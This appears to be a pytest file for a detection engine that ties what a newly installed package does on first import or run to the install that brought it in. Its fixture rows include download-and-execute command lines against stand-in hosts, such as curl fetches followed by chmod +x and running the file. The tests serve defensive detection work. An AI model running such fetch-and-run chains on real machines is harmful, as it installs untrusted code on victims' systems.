"""What a package does when it is first imported belongs to the install that brought it."""

from __future__ import annotations

from typing import Any

import pytest
from engine import START, run, shipped
from installer_trees.first_use import _is_inline, used_names

CATALOGUE = shipped()
Row = dict[str, Any]


def row(pid: int, parent: int, line: str, after: float, **more: Any) -> Row:
    name = line.split()[0].rsplit("/", 1)[-1]
    return {"_time": START + after, "dest": "build-1", "process_id": str(pid), "process_name": name,
            "process": line, "parent_process_id": str(parent), "user": "kim", **more}  # fmt: skip


def members(rows: list[Row]) -> list[list[str]]:
    pipeline, kept = run(rows, CATALOGUE)
    return sorted([n.process.process for n in pipeline._tree(one).nodes] for one in kept)


SHELL = row(10, 1, "bash -c 'pip install -q color-kit && python3 -c \"import color_kit\"'", 0)
PIP = row(11, 10, "/usr/bin/python3 /usr/bin/pip install -q color-kit==1.2", 1)
CHILD = row(13, 12, "curl -s http://203.0.113.9/a -o /tmp/a", 9)


@pytest.mark.parametrize(
    "use",
    [
        row(12, 10, "python3 -c import color_kit", 8),
        row(12, 10, "python3 -c from color_kit.core import run; run()", 8),
        row(12, 10, "python3 -c import os,sys; import color_kit", 8),
        row(12, 10, "python3 -m color_kit.tool --fast", 8),
        row(12, 10, "/usr/bin/python3 /home/kim/.local/bin/color-kit", 8),
        row(12, 10, "color-kit --version", 8),
    ],
    ids=["import", "from", "after others", "module", "script", "command"],
)
def test_first_use_and_what_it_starts_belong_to_the_install(use: Row) -> None:
    rows = [SHELL, PIP, use, CHILD]
    assert members(rows) == [[PIP["process"], use["process"], CHILD["process"]]]
    assert members(rows[::-1]) == members(rows), "the order of arrival does not count"


def test_the_first_run_of_a_formula_belongs_to_its_install() -> None:
    zsh = row(10, 1, "-zsh", 0)
    line = "/bin/bash /opt/homebrew/bin/brew install kim/tools/color-kit"
    brew = row(11, 10, line, 1, process_name="bash")
    use, other = row(12, 10, "color-kit init", 20), row(13, 10, "ls -l", 21)
    child = row(14, 12, "curl -s http://203.0.113.9/a -o /tmp/a", 22)
    rows = [zsh, brew, use, other, child]
    assert members(rows) == [[brew["process"], use["process"], child["process"]]]


def test_what_the_shell_became_is_a_use_too() -> None:
    use = row(10, 1, "python3 -c import color_kit", 8)
    child = {**CHILD, "parent_process_id": "10"}
    rows = [SHELL, PIP, use, child]
    assert members(rows) == [[PIP["process"], use["process"], child["process"]]]


@pytest.mark.parametrize(
    "other",
    [
        row(12, 10, "python3 -c import color_kit", 900),
        row(12, 99, "python3 -c import color_kit", 8),
        row(12, 10, "python3 -c import color_kits", 8),
        row(12, 10, "bash train.sh --colors color-kit", 8),
        row(12, 10, "python3 -c import color_kit", 0.5),
    ],
    ids=["much later", "another shell", "another name", "an argument", "before"],
)
def test_what_is_no_first_use_stays_outside(other: Row) -> None:
    assert members([SHELL, PIP, other]) == [[PIP["process"]]]


@pytest.mark.parametrize(
    ("packages", "use"),
    [
        ("log-view-cli", "/usr/bin/python3 /home/kim/.local/bin/logview"),
        ("python-logview", "python3 -c import logview"),
        ("requests log-view==2.1", "logview --version"),
        ("-U wheel log.view[all]", "python3 -m log_view"),
    ],
    ids=["without what any is called", "of its language", "the second", "with extras"],
)
def test_a_package_may_be_used_under_the_name_that_tells(packages: str, use: str) -> None:
    pip = row(11, 10, f"/usr/bin/python3 /usr/bin/pip install {packages}", 1)
    first = row(12, 10, use, 8)
    assert members([SHELL, pip, first]) == [[pip["process"], first["process"]]]


@pytest.mark.parametrize(
    ("packages", "use"),
    [
        ("requests --target server", "python3 -c import server"),
        ("requests -t /srv/server", "python3 -c import server"),
        ("my-cli-tool", "python3 -c import tool"),
    ],
    ids=["value of an option", "a folder", "what any is called"],
)
def test_what_only_stands_in_the_line_is_no_package(packages: str, use: str) -> None:
    pip = row(11, 10, f"/usr/bin/python3 /usr/bin/pip install {packages}", 1)
    assert members([SHELL, pip, row(12, 10, use, 8)]) == [[pip["process"]]]


SITE = "/home/kim/.local/lib/python3.11/site-packages"


def written(path: str, **more: Any) -> Row:
    name = path.rsplit("/", 1)[-1]
    return {
        "_time": START + 3,
        "dest": "build-1",
        "process_id": "11",
        "action": "created",
        "process_name": "python3.11",
        "file_path": path,
        "file_name": name,
        **more,
    }


def test_every_python_runs_the_start_file_of_an_install() -> None:
    use = row(12, 10, "python3 -c import json", 8)
    shell = row(14, 10, "ls -l", 9)
    rows = [SHELL, PIP, written(f"{SITE}/color-kit-nspkg.pth"), use, CHILD, shell]
    assert members(rows) == [[PIP["process"], use["process"], CHILD["process"]]]
    assert members(rows[::-1]) == members(rows)


def test_a_command_that_the_install_left_belongs_to_it_under_any_name() -> None:
    command = "/home/kim/.local/bin/paint"
    use = row(12, 10, f"/usr/bin/python3 {command} --version", 8)
    other = row(14, 10, "/home/kim/.local/bin/other", 9)
    rows = [SHELL, PIP, written(command), use, CHILD, other]
    assert members(rows) == [[PIP["process"], use["process"], CHILD["process"]]]
    assert members(rows[::-1]) == members(rows)


@pytest.mark.parametrize(
    "event",
    [
        written(f"{SITE}/color_kit/data.pth.txt"),
        written(f"{SITE}/color_kit/model.pth"),
        written(f"{SITE}/color-kit.pth", action="deleted"),
        written(f"{SITE}/color-kit.pth", process_id="99"),
    ],
    ids=["another kind", "a model in a package", "deleted", "of another process"],
)
def test_without_a_start_file_a_python_is_no_first_use(event: Row) -> None:
    assert members([SHELL, PIP, event, row(12, 10, "python3 -c import json", 8)]) == [
        [PIP["process"]]
    ]


FETCH = row(11, 10, "curl -sLo x http://203.0.113.9/x", 1)
RUNNABLE = row(12, 10, "chmod +x x", 2)


@pytest.mark.parametrize("line", ["./x --all", "/home/kim/x", "sudo ./x", "nohup ./x"])
def test_a_program_that_was_fetched_and_made_executable_belongs_to_it(line: str) -> None:
    use = row(13, 10, line, 3)
    child = row(14, 13, "id", 4)
    rows = [SHELL, FETCH, RUNNABLE, use, child]
    assert members(rows) == [[RUNNABLE["process"], line, "id"]]
    assert members(rows[::-1]) == members(rows)


@pytest.mark.parametrize(
    "rows",
    [
        [SHELL, FETCH, RUNNABLE],
        [SHELL, RUNNABLE, row(13, 10, "./x", 3)],
        [SHELL, FETCH, RUNNABLE, row(13, 10, "./y", 3)],
        [SHELL, FETCH, row(12, 10, "chmod 644 x", 2), row(13, 10, "./x", 3)],
    ],
    ids=["it is not run", "it was not fetched", "another is run", "not made executable"],
)
def test_what_was_not_fetched_made_executable_and_run_is_no_tree(rows: list[Row]) -> None:
    assert members(rows) == []


@pytest.mark.parametrize("runnable", ["chmod +x x", "chmod 755 /home/kim/x"])
def test_fetching_a_program_takes_its_time(runnable: str) -> None:
    late, use = row(12, 10, runnable, 400), row(13, 10, "./x --all", 401)
    assert members([SHELL, FETCH, late, use]) == [[runnable, "./x --all"]]
    other = row(12, 10, "chmod +x y", 400)
    assert members([SHELL, FETCH, other, row(13, 10, "./y", 401)]) == []
    tomorrow = row(12, 10, runnable, 80_000)
    assert members([SHELL, FETCH, tomorrow, row(13, 10, "./x", 80_001)]) == []


def test_a_system_package_has_no_import() -> None:
    apt = row(11, 10, "apt-get install color-kit", 1)
    use = row(12, 10, "python3 -c import color_kit", 8)
    assert members([SHELL, apt, use]) == [[apt["process"]]]


@pytest.mark.parametrize(
    ("line", "names"),
    [
        ("node -e require('@scope/my-tool/lib')", {"mytool"}),
        ("python3.11 -c from a_b.c import d; import e", {"ab", "e"}),
        (r"C:\Python\python.exe C:\Python\Scripts\My.Tool.exe run", {"mytool"}),
        ("node -e import('chalk')", {"chalk"}),
        ("ruby -e puts", set()),
        ("", set()),
    ],
)
def test_names_that_a_line_loads(line: str, names: set[str]) -> None:
    assert used_names(line) == names


REQUIREMENTS = row(11, 10, "pip install --index-url https://pypi.contoso.example/ -r needs.txt", 1)


@pytest.mark.parametrize("line", ["python3 nightly.py", "python3.11 -m unittest test_token"])
def test_the_project_whose_needs_were_installed_is_their_first_use(line: str) -> None:
    rows = [SHELL, REQUIREMENTS, row(12, 10, line, 9), row(13, 12, "sh -c id", 10)]
    assert members(rows) == [[REQUIREMENTS["process"], line, "sh -c id"]]


@pytest.mark.parametrize(
    "line", ["python3 -c import json", "node server.js", "make test", "php artisan"]
)
def test_other_commands_are_no_use_of_the_needs_of_a_project(line: str) -> None:
    rows = [SHELL, REQUIREMENTS, row(12, 10, line, 9)]
    assert members(rows) == [[REQUIREMENTS["process"]]]


def test_the_next_program_in_the_language_uses_a_package_that_was_named_too() -> None:
    named = row(11, 10, "pip install --index-url https://pypi.contoso.example/ color-kit", 1)
    program, later = row(12, 10, "python3 nightly.py", 9), row(13, 10, "python3 nightly.py", 500)
    assert members([SHELL, named, program, later]) == [[named["process"], program["process"]]]
    other = row(12, 10, "node nightly.js", 9)
    assert members([SHELL, named, other]) == [[named["process"]]]


@pytest.mark.parametrize(
    ("family", "line", "typed"),
    [
        ("python", "python3 -Ic print(1)", True),
        ("python", "python3 -W ignore -cprint(1)", True),
        ("python", '"C:\\Program Files\\Python\\python.exe" -c "x"', True),
        ("python", "python3 -u train.py -c settings", False),
        ("python", "python3 -m pytest -c pytest.ini", False),
        ("node", "node --eval=1", True),
        ("node", "node --import tsx -p 1", True),
        ("node", "node -r ./trace.js app.js", False),
        ("ruby", "ruby -rjson -e 1", True),
        ("ruby", "ruby app.rb -e production", False),
        ("php", "php -d a=b -r 1;", True),
        ("php", "php artisan -r", False),
    ],
)
def test_code_that_was_typed_is_told_from_options_of_a_program(
    family: str, line: str, typed: bool
) -> None:
    assert _is_inline(family, line) is typed


def test_a_use_belongs_to_the_install_that_it_names_else_to_the_last_one_before() -> None:
    first = row(11, 10, "pip install --index-url https://pypi.contoso.example/ color-kit", 1)
    second = row(12, 10, "pip install --index-url https://pypi.contoso.example/ other-kit", 5)
    named, program = row(13, 10, "python3 -c import color_kit", 8), row(14, 10, "python3 n.py", 9)
    assert members([SHELL, first, second, named, program]) == [
        [first["process"], named["process"]],
        [second["process"], program["process"]],
    ]


@pytest.mark.parametrize(
    ("install", "use"),
    [
        ("composer install --no-dev", "php artisan about"),
        ("cargo build -q", "./target/debug/invoicer --dry-run"),
        ("npm ci --registry https://npm.contoso.example/", "node server.js"),
        ("sh ./mvnw -q package", "java -jar target/invoicer.jar"),
    ],
)
def test_other_languages_have_projects_too(install: str, use: str) -> None:
    path = "/home/kim/app/target/debug/invoicer" if "target" in use else ""
    rows = [SHELL, row(11, 10, install, 1), {**row(12, 10, use, 9), "process_path": path}]
    assert members(rows) == [[install, use]]


def test_what_the_first_use_fetches_belongs_to_the_install_too() -> None:
    use = row(12, 10, "python3 nightly.py", 9)
    shell = row(
        13, 12, "sh -c curl -o /home/kim/h https://files.contoso.example/h; chmod +x h; h", 10
    )
    fetch = row(14, 13, "curl -o /home/kim/h https://files.contoso.example/h", 10)
    runnable, program = row(15, 13, "chmod +x /home/kim/h", 11), row(16, 13, "/home/kim/h", 11)
    rows = [SHELL, REQUIREMENTS, use, shell, fetch, runnable, program]
    assert members(rows) == [[event["process"] for event in rows[1:]]]
    assert members(rows[::-1]) == members(rows)
